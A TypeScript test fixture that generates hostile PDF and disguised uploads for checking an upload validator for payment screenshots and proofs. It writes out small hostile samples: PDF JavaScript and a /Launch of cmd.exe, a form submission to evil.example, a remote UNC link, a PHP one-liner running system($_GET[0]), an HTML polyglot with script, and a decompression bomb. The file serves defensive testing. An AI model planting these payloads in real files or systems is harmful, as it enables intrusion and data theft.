import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { hostilePictures, smallGif, type HostilePicture } from './hostile-pictures.js';

const pdf = (inside: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n', 'latin1'),
    Buffer.from(inside),
    Buffer.from('\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);

const objectStream = (packed: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj'),
  ]);

/** A receipt as a bank makes it: packed objects, and nothing that acts. */
export const plainPdf = (): Buffer =>
  pdf(objectStream(deflateSync('6 0 << /Type /Page /OpenAction [ 2 0 R /FitH 0 ] >>')));

/** A small PDF whose packed objects are large and full of escaped names: it takes a second and more to check. */
export function slowPdf(): Buffer {
  const packed = objectStream(deflateSync('/#41#42#43'.repeat(100_000)));
  return pdf(Buffer.concat(Array.from({ length: 18 }, () => packed)));
}

/** Documents with active contents, and files that are no documents. */
function hostilePdfs(gif: Buffer): HostilePicture[] {
  const file = (title: string, bytes: Buffer | string, fileName = 'receipt.pdf'): HostilePicture => ({
    title,
    bytes: Buffer.from(bytes),
    fileName,
    type: 'application/pdf',
  });
  const good = plainPdf();
  const archive = Buffer.concat([Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);
  return [
    file('a PDF that runs JavaScript', pdf('3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj')),
    file('a PDF with a script under an escaped name', pdf('3 0 obj << /S /J#61vaScript /J#53 (x) >> endobj')),
    file('a PDF that starts a program', pdf('3 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj')),
    file('a PDF with a file attached', pdf('3 0 obj << /Type /EmbeddedFile /Length 0 >> endobj')),
    file('a PDF with a list of files', pdf('3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj')),
    file('a PDF with a script in its packed objects', pdf(objectStream(deflateSync('6 0 << /S /JavaScript >>')))),
    file('a PDF with packed objects that cannot be read', pdf(objectStream(Buffer.from('not packed at all')))),
    file('a PDF whose packed objects are a bomb', pdf(objectStream(deflateSync(Buffer.alloc(64 * 1024 * 1024))))),
    file('a PDF that needs a password', pdf('3 0 obj << /Encrypt 9 0 R >> endobj')),
    file('a PDF with a film', pdf('3 0 obj << /Subtype /RichMedia >> endobj')),
    file('a PDF with an older film', pdf('3 0 obj << /Subtype /Movie >> endobj')),
    file('a PDF with a sound', pdf('3 0 obj << /S /Sound >> endobj')),
    file('a PDF that plays', pdf('3 0 obj << /S /Rendition >> endobj')),
    file('a PDF with an XFA form', pdf('3 0 obj << /XFA 4 0 R >> endobj')),
    file('a PDF that sends its form', pdf('3 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj')),
    file('a PDF that fetches data', pdf('3 0 obj << /S /ImportData >> endobj')),
    file('a PDF that opens another', pdf('3 0 obj << /S /GoToR /F (\\\\\\\\evil\\\\x) >> endobj')),
    file('a PDF that opens one inside', pdf('3 0 obj << /S /GoToE >> endobj')),
    file('a PDF that is a page, too', Buffer.concat([good, Buffer.from('<html><script>alert(1)</script>')])),
    file('a PDF with a page inside', pdf('3 0 obj (<iframe src=//evil>) endobj')),
    file('a PDF with PHP', pdf('3 0 obj (<?php system($_GET[0]); ?>) endobj')),
    file('a PDF that is an archive, too', Buffer.concat([good, archive])),
    file('a GIF before a PDF', Buffer.concat([gif, good])),
    file('letters before a PDF', Buffer.concat([Buffer.from('hello\n'), good])),
    file('a PDF without an end', good.subarray(0, good.length - 20)),
    file('a PDF’s first 8 bytes', good.subarray(0, 8)),
    file('a PDF of no version', '%PDF-x.y\n%%EOF'),
    file('PostScript', '%!PS-Adobe-3.0\n(r) file\n%%EOF'),
    file('an office document', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(60), archive])),
    file('an old office document', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(500)])),
    file('a PDF by its name alone', '<!doctype html ><script>1</script>', 'receipt.pdf'),
  ];
}

/** Hostile files for the screenshots of staff and the proofs of families: 60 files and more. */
export async function hostileUploads(purpose: 'payment_screenshot' | 'payment_proof'): Promise<HostilePicture[]> {
  const webp = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#148' } })
    .webp()
    .toBuffer();
  const files: HostilePicture[] = [
    ...(await hostilePictures()),
    ...hostilePdfs(await smallGif()),
    {
      title: 'a truncated WebP',
      bytes: webp.subarray(0, webp.length - 20),
      fileName: 'a.webp',
      type: 'image/webp',
      why: 'image_cut',
    },
  ];
  // Both allow a WebP, and a proof may be a PDF.
  const taken = purpose === 'payment_proof' ? ['WebP', 'PDF'] : ['WebP'];
  return files.filter(({ title }) => !taken.includes(title));
}
